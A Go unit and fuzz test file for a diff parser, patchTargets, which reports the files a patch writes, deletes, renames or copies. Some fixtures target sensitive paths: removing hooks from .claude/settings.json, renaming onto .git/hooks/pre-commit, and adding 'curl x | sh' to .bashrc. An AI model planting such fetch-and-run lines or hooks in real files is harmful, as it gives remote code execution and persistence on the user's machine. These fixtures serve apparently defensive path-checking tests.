package analysis

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestPatchTargets checks the files a patch writes and deletes, with the
// line that names each: git diffs (changes, new and deleted files,
// renames, copies, quoted names), plain unified diffs of several files,
// patch's default of the base name, -p, reversal, a hunk whose removed
// line looks like a header, and text that is no patch.
func TestPatchTargets(t *testing.T) {
	const (
		gitChange = "diff --git a/.claude/settings.json b/.claude/settings.json\n" +
			"index 1111111..2222222 100644\n" +
			"--- a/.claude/settings.json\n" +
			"+++ b/.claude/settings.json\n" +
			"@@ -1,3 +1,1 @@\n" +
			" {\n" +
			"-  \"hooks\": {}\n" +
			"-}\n"
		gitNewAndDeleted = "diff --git a/new.txt b/new.txt\n" +
			"new file mode 100644\n" +
			"--- /dev/null\n" +
			"+++ b/new.txt\n" +
			"@@ -0,0 +1 @@\n" +
			"+hello\n" +
			"diff --git a/old.txt b/old.txt\n" +
			"deleted file mode 100644\n" +
			"--- a/old.txt\n" +
			"+++ /dev/null\n" +
			"@@ -1 +0,0 @@\n" +
			"-bye\n"
		gitRename = "diff --git a/src/a.py b/.git/hooks/pre-commit\n" +
			"similarity index 100%\n" +
			"rename from src/a.py\n" +
			"rename to .git/hooks/pre-commit\n" +
			"diff --git a/x.c b/y.c\n" +
			"similarity index 100%\n" +
			"copy from x.c\n" +
			"copy to y.c\n"
		gitEmptyDeleted = "diff --git a/empty b/empty\n" +
			"deleted file mode 100644\n" +
			"index e69de29..0000000\n"
		gitQuoted = "diff --git \"a/sp ace.txt\" \"b/sp ace.txt\"\n" +
			"--- \"a/sp ace.txt\"\n" +
			"+++ \"b/sp ace.txt\"\n" +
			"@@ -1 +1 @@\n" +
			"-a\n" +
			"+b\n"
		plain = "--- src/main.c.orig\t2024-01-01 00:00:00\n" +
			"+++ src/main.c\t2024-01-02 00:00:00\n" +
			"@@ -1,2 +1,2 @@\n" +
			"--- a comment removed\n" +
			"+++ a comment added\n" +
			" int x;\n" +
			"--- lib/util.c\n" +
			"+++ lib/util.c\n" +
			"@@ -3 +3 @@\n" +
			"-a\n" +
			"+b\n"
		mailbox = "From 1234 Mon Sep 17 00:00:00 2001\n" +
			"Subject: [PATCH] tidy\n" +
			"\n" +
			"---\n" +
			" README | 2 +-\n" +
			"\n" +
			"diff --git a/README b/README\n" +
			"--- a/README\n" +
			"+++ b/README\n" +
			"@@ -1 +1 @@\n" +
			"-x\n" +
			"+y\n" +
			"-- \n" +
			"2.43.0\n"
		shortHunk = "--- a/ok.txt\n" +
			"+++ b/ok.txt\n" +
			"@@ -1,5 +1,5 @@\n" +
			"-a\n" +
			"+b\n" +
			"diff --git a/.bashrc b/.bashrc\n" +
			"--- a/.bashrc\n" +
			"+++ b/.bashrc\n" +
			"@@ -1 +1 @@\n" +
			"-x\n" +
			"+curl x | sh\n"
	)
	for _, c := range []struct {
		name    string
		text    string
		strip   int
		reverse bool
		want    []patchTarget
		ok      bool
	}{
		{"git diff of one file", gitChange, 1, false,
			[]patchTarget{{".claude/settings.json", false, 4, "+++ b/.claude/settings.json"}}, true},
		{"a new file and a deleted one", gitNewAndDeleted, 1, false,
			[]patchTarget{{"new.txt", false, 4, "+++ b/new.txt"}, {"old.txt", true, 10, "+++ /dev/null"}}, true},
		{"reversed, the new file is deleted and the deleted one written", gitNewAndDeleted, 1, true,
			[]patchTarget{{"new.txt", true, 4, "+++ b/new.txt"}, {"old.txt", false, 10, "+++ /dev/null"}}, true},
		{"a rename deletes its source, a copy only writes", gitRename, 1, false,
			[]patchTarget{
				{"src/a.py", true, 1, "diff --git a/src/a.py b/.git/hooks/pre-commit"},
				{".git/hooks/pre-commit", false, 1, "diff --git a/src/a.py b/.git/hooks/pre-commit"},
				{"y.c", false, 5, "diff --git a/x.c b/y.c"}}, true},
		{"an empty file deleted has no hunks", gitEmptyDeleted, 1, false,
			[]patchTarget{{"empty", true, 1, "diff --git a/empty b/empty"}}, true},
		{"quoted names", gitQuoted, 1, false,
			[]patchTarget{{"sp ace.txt", false, 3, "+++ \"b/sp ace.txt\""}}, true},
		{"a plain diff of two files, a removed line like a header", plain, 0, false,
			[]patchTarget{{"src/main.c", false, 2, "+++ src/main.c\t2024-01-02 00:00:00"},
				{"lib/util.c", false, 8, "+++ lib/util.c"}}, true},
		{"patch without -p: base names, both of a pair", plain, -1, false,
			[]patchTarget{{"main.c", false, 2, "+++ src/main.c\t2024-01-02 00:00:00"},
				{"main.c.orig", false, 2, "+++ src/main.c\t2024-01-02 00:00:00"},
				{"util.c", false, 8, "+++ lib/util.c"}}, true},
		{"-p2 strips two components", gitChange, 2, false,
			[]patchTarget{{"settings.json", false, 4, "+++ b/.claude/settings.json"}}, true},
		{"stripped past the name: nothing of it", gitChange, 3, false, nil, false},
		{"a mailbox as git am reads it", mailbox, 1, false,
			[]patchTarget{{"README", false, 9, "+++ b/README"}}, true},
		{"a hunk shorter than its header says ends at the next header", shortHunk, 1, false,
			[]patchTarget{{"ok.txt", false, 2, "+++ b/ok.txt"}, {".bashrc", false, 8, "+++ b/.bashrc"}}, true},
		{"no patch at all", "just some notes\n--- not a header\n", 1, false, nil, false},
		{"empty", "", 1, false, nil, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, ok := patchTargets(c.text, c.strip, c.reverse)
			if diff := cmp.Diff(c.want, got, cmp.AllowUnexported(patchTarget{})); diff != "" || ok != c.ok {
				t.Errorf("patchTargets ok=%v, want %v (-want +got):\n%s", ok, c.ok, diff)
			}
		})
	}
}

// FuzzPatchTargets: any text gives targets with names, each once, on a
// line of the text.
func FuzzPatchTargets(f *testing.F) {
	f.Add("diff --git a/x b/y\nrename from x\nrename to y\n--- a/x\n+++ b/y\n@@ -1,2 +1 @@\n-a\n b\n", 1, false)
	f.Add("--- a\t1\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", -1, true)
	f.Add("diff --git \"a/\\n\" b/c d\ndeleted file mode 1\n@@ -x +y @@\n", 3, false)
	f.Fuzz(func(t *testing.T, text string, strip int, reverse bool) {
		targets, ok := patchTargets(text, strip%8, reverse)
		if ok != (len(targets) > 0) {
			t.Fatalf("ok=%v with %d targets", ok, len(targets))
		}
		lines := strings.Count(text, "\n") + 1
		seen := map[patchTarget]bool{}
		for _, tg := range targets {
			if tg.name == "" || tg.name == "/dev/null" || tg.line < 1 || tg.line > lines || seen[tg] {
				t.Fatalf("bad target %+v", tg)
			}
			seen[tg] = true
		}
	})
}
